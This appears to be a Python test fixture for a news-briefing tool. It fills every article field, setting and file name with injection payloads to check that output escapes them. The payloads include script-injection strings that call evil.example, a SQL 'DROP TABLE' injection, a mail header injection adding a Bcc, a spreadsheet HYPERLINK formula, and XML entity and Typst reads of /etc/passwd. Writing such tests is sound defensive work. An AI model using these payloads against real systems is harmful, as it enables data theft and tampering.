"""A desk where every field of every article is somebody else's command, and everything that is made of it.

Each payload stands in each field, together with the field's name, so that what leaks says where it came from. The
articles are put into the library as they are: what cleaning would have taken out is there.
"""

import json
from collections.abc import Iterator, Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import MappingProxyType

from briefing.model import Article
from briefing.rows import digest
from briefing.store import open_library
from tests.cli.mail import TOML
from tests.factory import article

WEEK = "2026-W20"
MONDAY = datetime(2026, 5, 11, 8, tzinfo=UTC)
MARK = "FIELD"
PAYLOADS: Mapping[str, str] = MappingProxyType({
    "tag": "<script>steal('FIELD')</script><img src=https://evil.example/FIELD onerror=steal()>",
    "attribute": "\"' onmouseover='steal(FIELD)' style=\"x:FIELD\" x=\"",
    "element": "</script></style></title></textarea><iframe srcdoc=FIELD><svg/onload=steal('FIELD')>",
    "link": "[FIELD](javascript:steal()) ![FIELD](https://evil.example/FIELD) <javascript:FIELD>",
    "lines": "\n\n# FIELD\n\n- FIELD\n\n```\n| a | b |\n|---|---|\n[^1]: FIELD\n---\nkey: FIELD\n---\n",
    "template": "{{ 7 * 191 }}{% include 'FIELD' %}{# FIELD #}{{< FIELD >}}<%= FIELD %>${FIELD}",
    "typst": "#panic(\"FIELD\") #read(\"/etc/passwd\") #link(\"https://evil.example/FIELD\")[x] $FIELD$ @FIELD <FIELD>",
    "sql": "'; DROP TABLE articles; -- FIELD' OR '1'='1 \" OR title:* NEAR(a b) AND * ^FIELD {title}: -x",
    "header": "FIELD\r\nBcc: evil@evil.example\r\nContent-Type: text/html\r\n\r\n<b>FIELD</b>\n.\nQUIT",
    "formula": "=HYPERLINK(\"https://evil.example/FIELD\";\"FIELD\")",
    "yaml": "\"\nFIELD: evil\nchecksum: x\n...\n!!python/object:FIELD &a *a",
    "xml": "]]><evil>FIELD</evil><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;<?evil FIELD?>",
    "json": "\",\"FIELD\":\"evil\\u0022}]</script>\u2028\u2029//",
    "terminal": "\x1b]8;;https://evil.example/FIELD\x07FIELD\x1b]8;;\x07\x1b[2J\r\x08\x9b31m\x7f",
    "bidi": "\u202eFIELD\u2066\u2067\u200f\u061c",
    "nothing": "\0FIELD\x01\ufffe\ufeff\U000e0041",
})  # fmt: skip
"""What somebody might want done → how they would ask for it."""

FIELDS = ("title", "text", "outlet", "authors", "url", "source", "id", "language", "origin", "partial_date", "speaker")
SYLLABLES = ("ba", "ke", "lo", "mu", "ri", "so", "ta", "vu", "ne", "dj", "gor", "pil", "zan", "fet", "hul", "wim")
WORDS = 40  # that one story has and no other, so that each payload is an event of its own
BODY = """The {0} {1} of {2} {3} was {4} by the {5} {6} on Tuesday, {7} {8} {9} told Harnby Radio. {words}

“The {10} {11} shall {12} the {13} before {14} {15}, {words},” Ruth {16} said. {words}

{words} {17} {18} {19} {20} and {21} {22} {words} {23} the {24} {25}. {26} {27} {28} {29} {30} {31} {32} {33} {34}."""


def story(number: int) -> list[str]:
    """Words that stand in no other story."""
    found = []
    for place in range(number * WORDS, (number + 1) * WORDS):
        high, low = divmod(place, len(SYLLABLES))
        found.append(f"{SYLLABLES[low]}{SYLLABLES[high % 16]}{SYLLABLES[high // 16 + 3]}n".capitalize())
    return found


def mark(name: str, field: str) -> str:
    """What tells one payload in one field from all others."""
    return f"{field}by{name}"


def marked(name: str, field: str) -> str:
    """The payload of that name as it stands in a field."""
    return PAYLOADS[name].replace(MARK, mark(name, field))


def poisoned(number: int, name: str) -> Iterator[Article]:
    """Two articles of one event: the first holds the payload in all fields, the second as an address that may be."""
    words = {field: marked(name, field) for field in FIELDS}
    words["id"] = "".join(filter(str.isprintable, words["id"]))  # a digest, unless a library was made by hand
    for copy in range(2):
        own = story(number)
        title = f"{own[0]} {own[1]} of {own[2]} {own[3]} {words['title']}"
        text = BODY.format(*own, words=words["text"]) + f"\n\n“We wait,” {words['speaker']} said. Copy {copy}."
        one = article(f"{number:05}{copy}{words['id']}", text, title=title, outlet=f"Courier {words['outlet']} {copy}")
        yield replace(
            one,
            url=f"https://news.example/{number}?{words['url']}" if copy else f"javascript:{words['url']}",
            authors=(words["authors"], f"Ana {words['authors']}"),
            published=MONDAY + timedelta(hours=7 * number + copy),
            language="en" if copy else words["language"],
            origin=words["origin"],
            partial_date=words["partial_date"],
            source=words["source"],
            sha256=digest(title, text),
        )


def settings(port: int = 25) -> str:
    """A `brief.toml` with payloads wherever it holds words; those of one line, as TOML's strings are read whole."""
    every = " ".join(marked(name, "toml") for name in PAYLOADS if "\n" not in PAYLOADS[name])
    text = "".join(character for character in every if character.isprintable())
    words = json.dumps(text)
    return (
        f'title = {words}\nsources = ["empty"]\nwatch = ["Harnby", {words}]\nformats = ["md", "html", "pdf", "json"]\n'
        f'[topic.harnby]\nwords = ["Harnby", {words}]\nnames = [{words}]\noutlets = [{words}]\n'
        + TOML.format(port=port)
        + '[[recipient]]\naddress = "Mira Solen <mira@harnby.example>"\nevery = "week"\n'
    )


def furnish(folder: Path) -> None:
    """Fill the folder: configuration, library, a file whose name is a payload too."""
    (folder / "empty").mkdir()
    for name in PAYLOADS:
        called = marked(name, "file").replace("/", "_").replace("\0", "")[:80]
        (folder / "empty" / f"{called}.xyz").write_bytes(b"x")
    (folder / "brief.toml").write_text(settings(), encoding="utf-8")
    with open_library(folder / "library.sqlite") as library:
        every = [each for number, name in enumerate(PAYLOADS) for each in poisoned(number, name)]
        library.add(every, seen_at=MONDAY + timedelta(days=7))
